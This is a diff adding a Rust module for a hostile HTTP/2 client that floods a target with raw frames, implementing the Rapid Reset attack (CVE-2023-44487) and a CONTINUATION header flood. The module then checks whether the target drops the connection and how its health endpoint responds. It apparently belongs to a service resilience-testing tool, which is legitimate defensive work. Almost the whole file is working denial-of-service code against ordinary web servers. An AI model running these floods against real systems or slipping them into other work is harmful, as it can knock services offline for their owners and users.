@@ -1,0 +1,106 @@
+//! A hostile HTTP/2 client, by prior knowledge, frame by frame (RFC 9113).
+
+use std::time::Duration;
+
+use anyhow::{Result, bail};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::TcpStream;
+use tokio::net::tcp::OwnedWriteHalf;
+
+use super::{Outcome, Target, with_health};
+
+const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+const HEADERS: u8 = 1;
+const RST_STREAM: u8 = 3;
+const SETTINGS: u8 = 4;
+const CONTINUATION: u8 = 9;
+const END_STREAM: u8 = 1;
+const END_HEADERS: u8 = 4;
+const CANCEL: [u8; 4] = [0, 0, 0, 8];
+/// How many CONTINUATION frames are enough: 64 MiB.
+const CONTINUATIONS: u32 = 4096;
+const LIMIT: Duration = Duration::from_secs(30);
+
+/// Floods the service, and waits for it to close the connection.
+pub(crate) async fn run(attack: &str, streams: u64, target: &Target) -> Result<Outcome> {
+    if !["rapid_reset", "continuation_flood"].contains(&attack) {
+        bail!("the h2 attack {attack:?} is not known");
+    }
+    let (closed, health_ms) = with_health(target.addr, async {
+        let (mut reader, mut writer) = TcpStream::connect(target.addr).await?.into_split();
+        let flood = async {
+            let flood = if attack == "rapid_reset" {
+                rapid_reset(&mut writer, u32::try_from(streams).unwrap_or(u32::MAX)).await
+            } else {
+                continuation_flood(&mut writer).await
+            };
+            // What was written is out, or the service has closed: either way its answer is what is waited for.
+            drop(flood);
+            std::future::pending::<()>().await;
+        };
+        let mut rest = Vec::new();
+        let closed = async { reader.read_to_end(&mut rest).await.map(|_| ()) };
+        let work = async {
+            tokio::select! { _ = closed => true, () = flood => false }
+        };
+        Ok(tokio::time::timeout(LIMIT, work).await.unwrap_or(false))
+    })
+    .await?;
+    Ok(Outcome {
+        closed,
+        health_ms,
+        ..Outcome::default()
+    })
+}
+
+/// Requests that are cancelled at once (CVE-2023-44487).
+async fn rapid_reset(writer: &mut OwnedWriteHalf, streams: u32) -> std::io::Result<()> {
+    writer.write_all(PREFACE).await?;
+    writer.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
+    // GET http /health, by the static table (RFC 7541 appendix A).
+    let request = [b"\x82\x86\x04\x07/health".as_slice(), b"\x01\x01x"].concat();
+    for batch in 0..streams.div_ceil(100) {
+        let mut out = Vec::new();
+        for index in batch * 100..((batch + 1) * 100).min(streams) {
+            let stream = index * 2 + 1;
+            out.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &request));
+            out.extend(frame(RST_STREAM, 0, stream, &CANCEL));
+        }
+        writer.write_all(&out).await?;
+    }
+    Ok(())
+}
+
+/// A head that never ends (CVE-2024-27316 class).
+async fn continuation_flood(writer: &mut OwnedWriteHalf) -> std::io::Result<()> {
+    writer.write_all(PREFACE).await?;
+    writer.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
+    writer
+        .write_all(&frame(HEADERS, END_STREAM, 1, b"\x82\x86\x84"))
+        .await?;
+    // Literal fields without indexing: name `x`, a value of 126 bytes.
+    let field = [b"\x00\x01x\x7e".as_slice(), &[b'a'; 126]].concat();
+    let flood = frame(CONTINUATION, 0, 1, &field.repeat(125));
+    for _ in 0..CONTINUATIONS {
+        writer.write_all(&flood).await?;
+    }
+    Ok(())
+}
+
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
+    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn frames_have_their_length_in_front() {
+        assert_eq!(
+            frame(RST_STREAM, 0, 3, &CANCEL),
+            [0, 0, 4, 3, 0, 0, 0, 0, 3, 0, 0, 0, 8]
+        );
+    }
+}
